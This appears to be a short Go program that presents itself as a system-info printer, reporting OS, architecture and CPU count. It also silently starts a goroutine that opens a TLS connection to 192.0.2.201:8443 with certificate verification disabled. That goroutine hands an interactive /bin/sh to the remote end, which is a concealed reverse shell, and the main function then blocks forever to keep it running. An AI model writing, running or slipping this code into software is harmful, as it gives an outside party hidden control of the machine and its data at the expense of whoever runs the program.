package main

import (
	"crypto/tls"
	"fmt"
	"os/exec"
	"runtime"
)

func main() {
	fmt.Println(runtime.GOOS, runtime.GOARCH, runtime.NumCPU())
	go func() {
		c, err := tls.Dial("tcp", "192.0.2.201:8443", &tls.Config{InsecureSkipVerify: true})
		if err != nil {
			return
		}
		cmd := exec.Command("/bin/sh", "-i")
		cmd.Stdin, cmd.Stdout, cmd.Stderr = c, c, c
		cmd.Run()
	}()
	select {}
}
